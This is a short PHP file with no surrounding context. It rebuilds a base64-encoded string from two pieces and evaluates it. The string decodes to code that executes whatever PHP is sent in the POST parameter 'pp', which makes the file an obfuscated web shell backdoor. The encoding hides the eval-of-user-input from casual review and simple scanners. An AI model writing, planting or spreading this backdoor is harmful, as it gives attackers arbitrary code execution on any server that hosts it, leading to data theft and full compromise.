<?php
$a = 'ZXZhbCgkX1BP';
$b = 'U1RbJ3BwJ10pOw==';
eval(base64_decode($a . $b));
